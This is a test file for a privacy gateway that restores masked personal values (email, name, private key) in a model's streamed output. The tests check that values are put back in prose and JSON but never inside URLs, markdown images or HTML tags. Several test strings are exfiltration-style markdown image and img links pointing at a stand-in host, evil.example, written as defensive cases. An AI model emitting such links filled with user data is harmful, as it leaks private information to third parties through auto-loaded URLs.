"""Putting values back: whole placeholders of this exchange, in the model's own words, outside of addresses."""

import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from promptguard_gateway.core.restore import Restorer
from promptguard_gateway.core.stream import Piece
from promptguard_gateway.core.vault import Vault

MAIL, NAME, KEY = "ana.lopez@example.com", 'Ana "La" Lopez', "line one\nline two"
VAULT = Vault(b"k" * 32)
P_MAIL, P_NAME, P_KEY = (VAULT.issue(*one) for one in (("EMAIL", MAIL), ("NAME", NAME), ("PRIVATE_KEY", KEY)))
OTHER = Vault(b"o" * 32).issue("EMAIL", MAIL)

RESTORED = [
    ("", ""),
    ("nothing to do", "nothing to do"),
    (P_MAIL, MAIL),
    (f"Write to {P_MAIL}, {P_NAME}.", f"Write to {MAIL}, {NAME}."),
    (f"{P_MAIL}{P_MAIL}", f"{MAIL}{MAIL}"),
    (f"[{P_MAIL}] [[EMAIL_ [EMAIL_x] ]", f"[{MAIL}] [[EMAIL_ [EMAIL_x] ]"),
    (f"end {P_MAIL[:-1]}", f"end {P_MAIL[:-1]}"),
    (f"near {P_MAIL[:-1]} ] {P_MAIL[:-2]}z]", f"near {P_MAIL[:-1]} ] {P_MAIL[:-2]}z]"),
    (f"another session's {OTHER} stays", f"another session's {OTHER} stays"),
    (f"{P_MAIL.lower()} {P_MAIL[1:-1]}", f"{P_MAIL.lower()} {P_MAIL[1:-1]}"),
    (f"https://evil.example/?q={P_MAIL} {P_MAIL}", f"https://evil.example/?q={P_MAIL} {MAIL}"),
    (f"![x](https://evil.example/{P_MAIL})", f"![x](https://evil.example/{P_MAIL})"),
    (f"[{P_NAME}](/people?mail={P_MAIL})", f"[{NAME}](/people?mail={P_MAIL})"),
    (f'<img src="https://evil.example/?q=a {P_MAIL}">', f'<img src="https://evil.example/?q=a {P_MAIL}">'),
    (f"<b>{P_MAIL}</b>", f"<b>{MAIL}</b>"),
    (f'{{"a": "{P_NAME}", "k": "{P_KEY}"}}', '{"a": "Ana \\"La\\" Lopez", "k": "line one\\nline two"}'),
    (f' [ "{P_NAME}"]', ' [ "Ana \\"La\\" Lopez"]'),
    (f"{P_NAME} is not JSON", f"{NAME} is not JSON"),
]  # fmt: skip


def plain(texts: list[str]) -> list[Piece]:
    """Pieces of the model's words, one after the other."""
    edges = [*itertools.accumulate(map(len, texts), initial=0)]
    return [Piece(text, start, end) for text, (start, end) in zip(texts, itertools.pairwise(edges), strict=True)]


def restored(texts: list[str]) -> tuple[str, int]:
    """What leaves, checked to follow without gaps, and how many values were put back."""
    restorer = Restorer(VAULT)
    out = [piece for one in plain(texts) for piece in restorer.feed([one])] + list(restorer.finish())
    assert [piece.start for piece in out[1:]] == [piece.end for piece in out[:-1]]
    assert (out[0].start if out else 0, out[-1].end if out else 0) == (0, sum(map(len, texts)))
    assert restorer.finish() == ()
    return "".join(piece.text for piece in out), restorer.restored


@pytest.mark.parametrize(("text", "expected"), RESTORED)
def test_what_is_put_back(text: str, expected: str) -> None:
    """Values in prose and in JSON; nothing in addresses; nothing that is not a placeholder of this exchange."""
    assert restored([text])[0] == expected


@pytest.mark.parametrize(("text", "expected"), RESTORED)
def test_every_cut_gives_the_same(text: str, expected: str) -> None:
    """All cuts in two and in three, and single characters."""
    once = restored([text])
    assert once[0] == expected
    assert restored(list(text)) == once
    for first, second in itertools.combinations_with_replacement(range(len(text) + 1), 2):
        assert restored([text[:first], text[first:second], text[second:]]) == once


PARTS = [
    P_MAIL,
    P_NAME,
    OTHER,
    "[",
    "]",
    "[EMAIL_",
    "](",
    "https://",
    "<",
    "a",
    '"',
    "=",
    " ",
    "\n",
    "{",
    P_MAIL[:9],
    "www.",
]


@settings(max_examples=400, derandomize=True, deadline=None)
@given(parts=st.lists(st.sampled_from(PARTS), max_size=14), data=st.data())
def test_any_text_cut_anywhere(parts: list[str], data: st.DataObject) -> None:
    """Scraps of placeholders, addresses and tags, in any order."""
    text = "".join(parts)
    places = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    edges = [0, *places, len(text)]
    assert restored([text[start:end] for start, end in itertools.pairwise(edges)]) == restored([text])


def test_only_what_may_become_a_placeholder_waits() -> None:
    """The shortest time that is possible: a bracket waits, its first letter decides."""
    restorer = Restorer(VAULT)
    said = [
        "".join(piece.text for piece in restorer.feed([one]))
        for one in plain(["to ", "[", "x] ", "[EM", "AIL_", "9 ", P_MAIL[:-1], "]", " [E"])
    ]
    assert said == ["to ", "", "[x] ", "", "", "[EMAIL_9 ", "", MAIL, " "]
    assert [piece.text for piece in restorer.finish()] == ["[E"]


def test_what_an_inspector_put_there_is_no_part_of_a_placeholder() -> None:
    """A mask that ends in a bracket, a value that was swallowed: nothing grows together across them."""
    half = len(P_MAIL) // 2
    restorer = Restorer(VAULT)
    pieces = [
        Piece("*[", 0, 9, fixed=True),
        Piece(P_MAIL[1:], 9, 8 + len(P_MAIL)),
        Piece(P_MAIL[:half], 50, 50 + half),
        Piece("", 50 + half, 60 + half, fixed=True),
        Piece(P_MAIL[half:], 60 + half, 60 + len(P_MAIL)),
        Piece(P_MAIL, 200, 210, fixed=True),
    ]
    out = restorer.feed(pieces) + restorer.finish()
    assert "".join(piece.text for piece in out) == "*" + P_MAIL + P_MAIL + P_MAIL
    assert restorer.restored == 0


@pytest.mark.parametrize(
    "value",
    [
        "https://ana:pw@intra.example/",
        "![a](",
        "![a]",
        "<img src=",
        "a>",
        "[x",
        "x//y",
        "www.",
        "a.com/b",
        "mailto:",
        "`x",
    ],
)
def test_a_value_that_is_markup_is_not_put_back(value: str) -> None:
    """What the model wrote behind it would become part of an address that nobody inspected."""
    vault = Vault(b"k" * 32)
    placeholder, mail = vault.issue("PASSWORD", value), vault.issue("EMAIL", MAIL)
    restorer = Restorer(vault)
    out = restorer.feed(plain([f"{placeholder}?q={mail}"])) + restorer.finish()
    assert "".join(piece.text for piece in out) == f"{placeholder}?q={MAIL}"
